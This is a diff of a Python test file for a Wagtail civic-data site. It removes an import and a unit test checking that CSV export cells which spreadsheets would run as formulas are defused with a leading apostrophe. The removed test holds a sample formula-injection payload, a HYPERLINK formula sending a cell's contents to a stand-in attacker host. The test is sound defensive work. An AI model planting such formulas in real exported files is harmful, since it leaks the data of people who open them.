@@ -16,7 +16,6 @@ from tests.app.conftest import next_october_13, next_week_at, publish
 from tests.app.downloads import csv_rows
 from tests.app.page_html import parse
 from tests.app.popolo_schema import popolo_errors
-from wagtail_civil.downloads.csv_files import csv_bytes, safe_cell
 from wagtail_civil.downloads.meetings import MEETING_COLUMNS
 from wagtail_civil.downloads.organisations import ORGANISATION_COLUMNS
 from wagtail_civil.models import CouncilPage
@@ -150,16 +149,6 @@ def test_an_organisation_slugged_like_a_download_keeps_its_page(
 
 
 # --- formula injection ---------------------------------------------------------------------------
-
-
-def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
-    for formula in ("=1+1", "+46 70", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
-        assert safe_cell(formula) == "'" + formula
-    for text in ("Röda Korset", "1+1", "a=b", "", "'quoted", "e-post"):
-        assert safe_cell(text) == text
-    assert safe_cell(None) == ""
-    data = csv_bytes(["a"], [['=HYPERLINK("https://evil.example/?"&A1;"Klicka")']])
-    assert data == b'\xef\xbb\xbfa\r\n"\'=HYPERLINK(""https://evil.example/?""&A1;""Klicka"")"\r\n'
 
 
 def test_a_formula_typed_into_a_name_or_title_is_defused_in_the_downloads(
